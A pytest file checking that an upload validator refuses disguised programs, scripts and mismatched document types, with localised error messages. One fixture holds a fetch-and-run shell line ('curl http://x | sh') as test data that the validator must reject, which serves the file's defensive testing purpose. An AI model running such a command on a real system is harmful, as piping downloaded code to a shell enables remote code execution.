"""An upload's content must be what its extension claims; programs and scripts never pass.

``workflows.master_plan.uploads.store`` (the one check the CLI, the API and the pages go
through) reads the signature: each allowed type is accepted as a real, minimal file made here
(``worldkit.document``), and a Windows program, an ELF binary or a shell script renamed to a
document, a ZIP that holds no Office document, or a PDF named ``.docx`` is refused with one
sentence naming the file, what its content is and the fix, and leaves no file behind. One
submission through the action proves no row is written either.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from worldkit import document

from config import language
from engine import InvalidInputError
from workflows.master_plan import actions
from workflows.master_plan.uploads import ALLOWED, check, store

LIMIT = 1 << 20
BALIKPAPAN = "64.71"


def _files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def _zip(**entries: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


MEDIA = {
    ".pdf": "application/pdf", ".doc": "application/msword", ".xls": "application/vnd.ms-excel",
    ".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg", ".csv": "text/csv",
}


@pytest.mark.parametrize("suffix", sorted(ALLOWED))
def test_a_real_file_of_each_allowed_type_is_stored(tmp_path: Path, suffix: str) -> None:
    data = document(suffix, "rencana aksi")
    stored = store(tmp_path, f"Buku 2{suffix.upper()}", data, LIMIT)
    assert stored.size_bytes == len(data)
    if suffix in MEDIA:
        assert stored.media_type == MEDIA[suffix]
    assert _files(tmp_path) == [tmp_path / stored.sha256[:2] / stored.sha256]


def test_a_csv_in_the_windows_code_page_is_text() -> None:
    assert check("daftar.csv", "nama,OPD\nPerizinan daring,Dinas Pekerjaan Umum – Tata Ruang\n"
                 .encode("cp1252"), LIMIT).media_type == "text/csv"


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
WINDOWS = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50)


@pytest.mark.parametrize(("name", "data", "message"), [
    pytest.param("rencana.pdf", WINDOWS, "the file “rencana.pdf” is not a PDF: its content is "
                 "a Windows program; export the document as PDF and upload that", id="mz-as-pdf"),
    pytest.param("rencana.pdf", ELF, "the file “rencana.pdf” is not a PDF: its content is a "
                 "Linux program (ELF); export the document as PDF", id="elf-as-pdf"),
    pytest.param("app.docx", b"\xcf\xfa\xed\xfe" + bytes(28), "the file “app.docx” is not a "
                 "Word, Excel or PowerPoint document (.docx, .xlsx, .pptx): its content is a "
                 "macOS program (Mach-O)", id="mach-o-as-docx"),
    pytest.param("daftar.csv", b"#!/bin/sh\ncurl http://x | sh\n", "the file “daftar.csv” is "
                 "not a CSV text file: its content is a script (it starts with “#!”); save the "
                 "table from the spreadsheet as CSV", id="shebang-as-csv"),
    pytest.param("daftar.csv", b"MZ,nama\n", "the file “daftar.csv” is not a CSV text file: "
                 "its content is a Windows program", id="mz-text-as-csv"),
    pytest.param("Buku 1.docx", _zip(**{"payload.exe": "MZ"}), "the file “Buku 1.docx” is not "
                 "a Word, Excel or PowerPoint document (.docx, .xlsx, .pptx): its content is a "
                 "ZIP archive with no Office document inside; open it in Office, save it as "
                 ".docx and upload that, or export it as PDF", id="plain-zip-as-docx"),
    pytest.param("Buku 1.docx", document(".pdf"), "the file “Buku 1.docx” is not a Word, Excel "
                 "or PowerPoint document (.docx, .xlsx, .pptx): its content is a PDF",
                 id="pdf-as-docx"),
    pytest.param("Buku 1.xls", document(".xlsx"), "the file “Buku 1.xls” is not a Word, Excel "
                 "or PowerPoint 97–2003 document (.doc, .xls, .ppt): its content is a Word, "
                 "Excel or PowerPoint document", id="xlsx-as-xls"),
    pytest.param("Buku 1.odt", document(".docx"), "the file “Buku 1.odt” is not an OpenDocument "
                 "file (.odt, .ods, .odp): its content is a Word", id="docx-as-odt"),
    pytest.param("foto.png", document(".jpg"), "the file “foto.png” is not a PNG image: its "
                 "content is a JPEG image; save the picture as PNG or JPEG", id="jpeg-as-png"),
    pytest.param("rencana.pdf", b"\x1f\x8b\x08\x00" + bytes(16), "the file “rencana.pdf” is not "
                 "a PDF: its content is a GZ file (application/gzip)", id="gzip-as-pdf"),
    pytest.param("rencana.pdf", b"<html>not a pdf</html>", "the file “rencana.pdf” is not a "
                 "PDF: its content is plain text", id="html-as-pdf"),
    pytest.param("daftar.csv", b"nama\x00nilai\n", "the file “daftar.csv” is not a CSV text "
                 "file: its content is data of no known document type", id="nul-in-csv"),
])
def test_content_that_is_not_what_the_name_says_is_refused_and_not_stored(
        tmp_path: Path, name: str, data: bytes, message: str) -> None:
    with pytest.raises(InvalidInputError) as caught:
        store(tmp_path / "uploads", name, data, LIMIT)
    assert str(caught.value).startswith(message), str(caught.value)
    assert caught.value.message.key == "upload_check.content"
    assert _files(tmp_path) == []


def test_the_refusal_reads_in_indonesian() -> None:
    with pytest.raises(InvalidInputError) as caught:
        check("rencana.pdf", WINDOWS, LIMIT)
    with language.using("id"):
            assert str(caught.value) == ("berkas “rencana.pdf” bukan PDF: isinya program Windows; "
                                     "ekspor dokumennya sebagai PDF lalu unggah berkas itu")


def test_a_disguised_program_submitted_leaves_no_row_and_no_file(world: Any) -> None:
    r = world.region(BALIKPAPAN)
    upload = world.folder / "Hasil Asesmen.pdf"
    upload.write_bytes(ELF)
    with world.unchanged(r.code), pytest.raises(InvalidInputError, match="Linux program"):
        actions.submit(world.prog, r.code, "assessment_result", upload, world.COORDINATOR)
    assert _files(world.prog.settings.upload_dir) == []
